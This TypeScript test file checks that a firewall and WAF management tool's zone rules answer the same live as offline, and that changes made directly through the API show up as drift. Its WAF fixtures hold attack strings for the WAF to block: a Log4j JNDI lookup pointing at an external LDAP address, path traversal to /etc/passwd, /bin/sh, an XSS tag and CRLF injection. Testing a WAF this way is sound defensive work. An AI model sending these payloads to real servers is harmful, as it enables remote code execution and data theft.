/**
 * `--against-zone`: the same cases through the live zone's trace operation. On a zone just applied
 * from the manifest (embedded engine, and `zonewall serve` over HTTP) every case gets the same
 * answer as offline; after changes made directly through the API (a rule's action changed, a rule
 * paused, an unmanaged rule added) the answers differ and the failures name the live rules.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyZone } from '../../src/apply/index.js';
import { Engine, loadCredentials, startServer, type RunningServer } from '../../src/engine/index.js';
import type { DesiredZone } from '../../src/manifest/index.js';
import { diffZone, readsFor } from '../../src/plan/index.js';
import { buildZoneModel, runAgainstZone, runOffline, type CaseResult, type TestCase } from '../../src/policy/index.js';
import { openProvider, type Provider } from '../../src/providers/index.js';
import { casesOf, desiredOf, firewallManifest, wafManifest } from './fixtures.js';
import { rows, tableCasesYaml } from './table.js';

const table = casesOf(tableCasesYaml()).cases;
const wafCases = casesOf(`- name: log4j is logged by the new WAF, blocked by the previous one
  request: { headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
  expect: { action: block, matched: [managed_rules.managed, previous_waf.cloudflare.100514] }
- name: OWASP at paranoia level 2 and threshold high blocks
  request: { headers: { User-Agent: Mozilla/5.0 }, path: /x, query: "a=../../etc/passwd&b=/bin/sh&c=<img src=x>&d=/**/&e=%0d%0a" }
  expect: { action: block, matched: managed_rules.owasp-strict.6179ae15870a4bb7b2d480d4843b323c }
- name: the monitor bypasses the previous WAF
  request: { headers: { User-Agent: monitor/1.0, X-Api-Version: "\${jndi:x}" } }
  expect: { allowed: true, matched: [firewall_rules.skip-waf-for-monitoring, managed_rules.managed] }
- name: a missing user agent scores in OWASP but stays under the threshold
  request: { path: / }
  expect: { allowed: true, matched: managed_rules.owasp-strict }
`).cases;

async function apply(provider: Provider, desired: DesiredZone): Promise<void> {
  const { zone } = await provider.resolveZone(desired.zone, provider.kind === 'engine' ? { create: { plan: 'enterprise' } } : {});
  const result = await applyZone(diffZone(desired, await provider.readZone(zone.id, readsFor(desired))), provider, { force: true });
  expect(result.ok).toBe(true);
}

const answers = (results: CaseResult[]) => results.map((r) => [r.name, r.actual]);

function expectSameAsOffline(desired: DesiredZone, cases: TestCase[], live: CaseResult[]): void {
  expect(answers(live)).toEqual(answers(runOffline(buildZoneModel(desired), cases)));
  expect(live.filter((r) => !r.pass).map((r) => [r.name, r.failures])).toEqual([]);
}

describe('against the embedded engine', () => {
  let dir: string;
  let provider: Provider;
  const firewall = desiredOf(firewallManifest);
  const waf = desiredOf(wafManifest);

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'zw-policy-live-'));
    provider = await openProvider({ stateDir: dir });
    await apply(provider, firewall);
    await apply(provider, waf);
  });
  afterAll(async () => {
    await provider.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a zone just applied answers the case table exactly as offline', async () => {
    const live = await runAgainstZone(provider, firewall, table);
    expect(live).toHaveLength(rows.length);
    expectSameAsOffline(firewall, table, live);
  });

  it('managed rulesets and the previous WAF answer as offline too', async () => {
    expectSameAsOffline(waf, wafCases, await runAgainstZone(provider, waf, wafCases));
  });

  it('changes made directly through the API show up as failures naming the live rules', async () => {
    const { zone } = await provider.resolveZone(firewall.zone);
    const live = await provider.readZone(zone.id);
    const byRef = (ref: string) => live.firewallRules.find((r) => r.ref === ref)!;
    const body = (ref: string, change: Record<string, unknown>) => {
      const r = byRef(ref);
      return { id: r.id, action: r.action, priority: r.priority, paused: r.paused, ref: r.ref, filter: { id: r.filter.id }, ...change };
    };
    await provider.updateFirewallRules(zone.id, [body('block-admin', { action: 'challenge' }), body('allow-office', { paused: true })]);
    const [filter] = await provider.createFilters(zone.id, [{ expression: 'http.request.uri.path eq "/very-late"', paused: false }]);
    const [unmanaged] = await provider.createFirewallRules(zone.id, [{ action: 'js_challenge', priority: 1000, paused: false, filter: { id: filter!.id } }]);

    const results = await runAgainstZone(provider, firewall, table);
    const failed = Object.fromEntries(results.filter((r) => !r.pass).map((r) => [r.name, r.failures]));
    expect(failed['block: admin from outside']).toEqual(['expected action block, got challenge by firewall_rules.block-admin']);
    expect(failed['allow: admin from the office (shared filter: log-admin, then allow-office)']).toEqual([
      'expected the request to be allowed, got challenge by firewall_rules.block-admin',
      'expected firewall_rules.allow-office to match, matched: firewall_rules.log-admin, firewall_rules.block-admin',
    ]);
    const late = results.find((r) => r.name === 'no priority still runs')!;
    expect(late.actual.rule).toBe(`firewall_rules.${unmanaged!.id}`);
    expect(late.why).toBe(`firewall_rules.${unmanaged!.id} (js_challenge): http.request.uri.path eq "/very-late" (unmanaged: no ref)`);
    // Offline still says what the manifest says: the drift is only in the live answers.
    expect(runOffline(buildZoneModel(firewall), table).every((r) => r.pass)).toBe(true);
  });

  it('a zone that does not exist is an error, not a run', async () => {
    await expect(runAgainstZone(provider, { ...firewall, zone: 'missing.example.com' }, table)).rejects.toThrow(/zone "missing.example.com" not found/);
  });

  it('a provider without the trace operation evaluates the zone as read, with the same verdicts as the trace', async () => {
    const noTrace = { ...provider, trace: undefined, requestTrace: undefined, description: 'a v4 API at https://api.example' } as unknown as Provider;
    const bound = Object.setPrototypeOf(noTrace, Object.getPrototypeOf(provider)) as Provider;
    const traced = await runAgainstZone(provider, firewall, table);
    const local = await runAgainstZone(bound, firewall, table);
    expect(local.map((r) => [r.pass, r.actual])).toEqual(traced.map((r) => [r.pass, r.actual]));
  });
});

describe.each([false, true])('against zonewall serve over HTTP (strict: %s)', (strict) => {
  const token = 'policy-live-token-0123456789abcdefghijklmnop';
  let dir: string;
  let engine: Engine;
  let server: RunningServer;
  let provider: Provider;
  const firewall = desiredOf(firewallManifest);

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'zw-policy-http-'));
    engine = await Engine.open({ dir, strict });
    await engine.createZone(firewall.zone, { plan: 'enterprise' });
    server = await startServer(engine, { port: 0, credentials: loadCredentials({ ZONEWALL_SERVE_TOKEN: token }) });
    provider = await openProvider({ remote: server.url, env: { ZONEWALL_API_TOKEN: token } });
    await apply(provider, firewall);
  });
  afterAll(async () => {
    await provider.close();
    await server.close();
    await engine.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it(`answers the case table exactly as offline through the request tracer: ${strict ? 'the batch route refused (404), one call of the service\'s route per case, several in flight' : 'zonewall\'s batch route, one call'}`, async () => {
    const before = provider.stats.requests;
    const calls: string[] = [];
    const batches: number[] = [];
    const traced = {
      ...provider,
      requestTrace: (zoneId: string, body: never) => { calls.push(zoneId); return provider.requestTrace!(zoneId, body); },
      requestTraceBatch: (zoneId: string, body: { requests: unknown[] }) => { batches.push(body.requests.length); return provider.requestTraceBatch!(zoneId, body as never); },
    };
    expectSameAsOffline(firewall, table, await runAgainstZone(Object.setPrototypeOf(traced, Object.getPrototypeOf(provider)) as Provider, firewall, table));
    // One zone look-up, one read of the zone (a few lists), one batch of every case; under
    // strict the batch is refused and each case is one tracer call.
    expect(batches).toEqual([table.length]);
    expect(calls.length).toBe(strict ? table.length : 0);
    expect(provider.stats.requests - before).toBeGreaterThanOrEqual(strict ? table.length : 1);
  });

  it('sees drift made through the API: a paused rule no longer decides', async () => {
    const { zone } = await provider.resolveZone(firewall.zone);
    const live = await provider.readZone(zone.id);
    const results = await runAgainstZone(provider, firewall, table);
    const decided = results.find((r) => r.pass && r.actual.rule?.startsWith('firewall_rules.'));
    expect(decided).toBeDefined();
    const ref = decided!.actual.rule!.slice('firewall_rules.'.length);
    const rule = live.firewallRules.find((r) => r.ref === ref)!;
    const paused = await engine.dispatch({ method: 'PATCH', path: `/zones/${zone.id}/firewall/rules/${rule.id}`, body: { paused: true } });
    expect(paused.status).toBe(200);
    const after = await runAgainstZone(provider, firewall, table);
    expect(after.find((r) => r.name === decided!.name)!.actual.rule).not.toBe(decided!.actual.rule);
    await engine.dispatch({ method: 'PATCH', path: `/zones/${zone.id}/firewall/rules/${rule.id}`, body: { paused: false } });
  });
});
